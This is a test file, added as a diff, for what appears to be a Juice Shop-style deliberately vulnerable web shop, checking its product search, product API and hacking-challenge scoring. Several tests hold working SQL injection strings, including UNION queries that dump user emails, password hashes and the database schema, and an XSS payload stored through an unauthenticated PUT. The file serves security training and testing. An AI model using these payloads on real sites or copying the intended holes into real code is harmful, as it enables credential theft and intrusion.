@@ -1,0 +1,163 @@
+import { afterAll, beforeAll, describe, expect, test } from 'vitest';
+import { signToken } from '../../src/server/security/tokens';
+import { IFRAME, startShop, type TestServer } from '../helpers';
+
+let s: TestServer;
+beforeAll(async () => {
+  s = await startShop();
+});
+afterAll(async () => s.close());
+
+describe('GET /rest/products/search', () => {
+  test('finds products by name or description, ordered by name, without deleted ones', async () => {
+    const r = await s.json('/rest/products/search?q=apple');
+    expect(r.status).toBe(200);
+    expect(r.body.status).toBe('success');
+    // upstream v20's catalogue: its Pineapple Juice matches "apple" too
+    expect(r.body.data.map((p: { name: string }) => p.name)).toEqual(['Apple Juice (1000ml)', 'Apple Pomace', 'Pineapple Juice (1000ml)']);
+    expect(Object.keys(r.body.data[0])).toEqual(['id', 'name', 'description', 'price', 'deluxePrice', 'image', 'createdAt', 'updatedAt', 'deletedAt']);
+  });
+
+  test('an empty or missing query lists every product that is not deleted', async () => {
+    const all = await s.json('/rest/products/search?q=');
+    const missing = await s.json('/rest/products/search');
+    expect(all.body.data.length).toBe(s.shop.config.products.filter((p) => !p.deletedDate).length);
+    expect(missing.body.data.length).toBe(all.body.data.length);
+    expect(all.body.data.some((p: { name: string }) => p.name === 'Rippertuer Special Juice')).toBe(false);
+  });
+
+  test("commenting out the rest of the statement lists deleted products too (the injection works)", async () => {
+    const r = await s.json(`/rest/products/search?q=${encodeURIComponent("'))--")}`);
+    expect(r.status).toBe(200);
+    expect(r.body.data.some((p: { name: string }) => p.name === 'Rippertuer Special Juice')).toBe(true);
+  });
+
+  test('a broken query answers 500 with the verbose error and solves Error Handling', async () => {
+    expect(s.shop.challenges.isSolved('errorHandlingChallenge')).toBe(false);
+    const r = await s.json(`/rest/products/search?q=${encodeURIComponent("apple'))")}`);
+    expect(r.status).toBe(500);
+    expect(r.body.error.message).toMatch(/syntax error/);
+    expect(r.body.error.stack).toContain('Error');
+    expect(s.shop.challenges.isSolved('errorHandlingChallenge')).toBe(true);
+    // and the process still answers
+    expect((await s.json('/rest/products/search?q=juice')).status).toBe(200);
+  });
+
+  test('User Credentials: a UNION over Users leaks every email and hash and solves the challenge', async () => {
+    expect(s.shop.challenges.isSolved('unionSqlInjectionChallenge')).toBe(false);
+    const q = "qwert')) UNION SELECT id,'2','3',email,password,'6','7','8','9' FROM Users--";
+    const r = await s.json(`/rest/products/search?q=${encodeURIComponent(q)}`);
+    expect(r.status).toBe(200);
+    expect(JSON.stringify(r.body)).toContain('admin@juice-sh.op');
+    expect(JSON.stringify(r.body)).toContain('0192023a7bbd73250516f069df18b500'); // md5("admin123")
+    expect(s.shop.challenges.isSolved('unionSqlInjectionChallenge')).toBe(true);
+  });
+
+  test('a UNION that leaks only some users does not solve User Credentials', async () => {
+    const fresh = await (await import('../helpers')).startShop();
+    try {
+      const q = "qwert')) UNION SELECT id,'2','3',email,password,'6','7','8','9' FROM Users WHERE id < 3--";
+      await fresh.json(`/rest/products/search?q=${encodeURIComponent(q)}`);
+      expect(fresh.shop.challenges.isSolved('unionSqlInjectionChallenge')).toBe(false);
+    } finally {
+      await fresh.close();
+    }
+  });
+
+  test('Database Schema: a UNION over sqlite_master solves the challenge', async () => {
+    expect(s.shop.challenges.isSolved('dbSchemaChallenge')).toBe(false);
+    const q = "')) UNION SELECT sql,'2','3','4','5','6','7','8','9' FROM sqlite_master--";
+    const r = await s.json(`/rest/products/search?q=${encodeURIComponent(q)}`);
+    expect(r.status).toBe(200);
+    expect(JSON.stringify(r.body)).toContain('CREATE TABLE Users');
+    expect(s.shop.challenges.isSolved('dbSchemaChallenge')).toBe(true);
+  });
+
+  test('the query is cut to 200 characters', async () => {
+    const r = await s.json(`/rest/products/search?q=${'a'.repeat(500)}`);
+    expect(r.status).toBe(200);
+    expect(r.body.data).toEqual([]);
+  });
+});
+
+describe('/api/Products', () => {
+  test('lists products and finds one by id; paths are case-insensitive', async () => {
+    const list = await s.json('/api/Products');
+    expect(list.status).toBe(200);
+    expect(list.body.data[0]).toMatchObject({ id: 1, name: 'Apple Juice (1000ml)', price: 1.99, deluxePrice: 0.99 });
+    const lower = await s.json('/api/products/');
+    expect(lower.body.data.length).toBe(list.body.data.length);
+    const one = await s.json('/api/Products/1?d=Sat%20Nov%2021%202026');
+    expect(one.body).toMatchObject({ status: 'success', data: { id: 1, name: 'Apple Juice (1000ml)' } });
+  });
+
+  test('an unknown or deleted product is a 404, a bad id too', async () => {
+    expect((await s.json('/api/Products/9999')).status).toBe(404);
+    expect((await s.json('/api/Products/11')).status).toBe(404); // Rippertuer is deleted
+    expect((await s.json('/api/Products/abc')).status).toBe(404);
+  });
+
+  test('API-only XSS: anyone can PUT a description holding the payload, which solves the challenge', async () => {
+    expect(s.shop.challenges.isSolved('restfulXssChallenge')).toBe(false);
+    const r = await s.json('/api/Products/1', { method: 'PUT', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ description: IFRAME }) });
+    expect(r.status).toBe(200);
+    expect(r.body.data.description).toBe(IFRAME);
+    expect(s.shop.challenges.isSolved('restfulXssChallenge')).toBe(true);
+  });
+
+  test('PUT with wrong types or broken JSON is a 400 with a message', async () => {
+    const typed = await s.json('/api/Products/2', { method: 'PUT', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ price: 'free' }) });
+    expect(typed.status).toBe(400);
+    expect(typed.body.message).toContain('price');
+    const broken = await s.json('/api/Products/2', { method: 'PUT', headers: { 'content-type': 'application/json' }, body: '{"description":' });
+    expect(broken.status).toBe(400);
+  });
+
+  test('POST needs a valid token; with one it creates the product', async () => {
+    const body = JSON.stringify({ name: 'Test Tonic', description: 'fresh', price: 3.5 });
+    const anonymous = await s.json('/api/Products', { method: 'POST', headers: { 'content-type': 'application/json' }, body });
+    expect(anonymous.status).toBe(401);
+    const forged = await s.json('/api/Products', { method: 'POST', headers: { 'content-type': 'application/json', authorization: 'Bearer not.a.token' }, body });
+    expect(forged.status).toBe(401);
+    const token = await signToken(s.shop.privateDir, { data: { id: 2, email: 'jim@juice-sh.op', role: 'customer' } });
+    const created = await s.json('/api/Products', { method: 'POST', headers: { 'content-type': 'application/json', authorization: `Bearer ${token}` }, body });
+    expect(created.status).toBe(201);
+    expect(created.body.data).toMatchObject({ name: 'Test Tonic', price: 3.5 });
+  });
+
+  test('DELETE is refused', async () => {
+    expect((await s.json('/api/Products/1', { method: 'DELETE' })).status).toBe(401);
+  });
+});
+
+test('with safety mode on, API-only XSS is disabled and descriptions are cleaned', async () => {
+  const safe = await startShop({ configOverrides: { challenges: { safetyMode: 'enabled' } } });
+  try {
+    const r = await safe.json('/api/Products/1', { method: 'PUT', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ description: `${IFRAME}juicy` }) });
+    expect(r.status).toBe(200);
+    expect(r.body.data.description).toBe('juicy');
+    expect(safe.shop.challenges.isSolved('restfulXssChallenge')).toBe(false);
+    const challenge = await safe.json('/api/Challenges/?key=restfulXssChallenge');
+    expect(challenge.body.data[0].disabledEnv).toBe('Safety Mode');
+  } finally {
+    await safe.close();
+  }
+});
+
+describe('quantities and reviews', () => {
+  test('GET /api/Quantitys lists stock per product', async () => {
+    const r = await s.json('/api/Quantitys');
+    expect(r.status).toBe(200);
+    expect(r.body.data.find((q: { ProductId: number }) => q.ProductId === 20)).toMatchObject({ quantity: 5, limitPerUser: 5 });
+  });
+
+  test('GET /rest/products/:id/reviews answers the reviews with their authors', async () => {
+    const r = await s.json('/rest/products/1/reviews');
+    expect(r.status).toBe(200);
+    expect(r.body.data.length).toBeGreaterThan(0);
+    expect(r.body.data[0]).toMatchObject({ product: 1, likesCount: 0 });
+    expect(r.body.data[0]._id).toBeTypeOf('string');
+    expect(r.body.data[0].author).toMatch(/@juice-sh\.op$/);
+    expect((await s.json('/rest/products/abc/reviews')).status).toBe(400);
+  });
+});
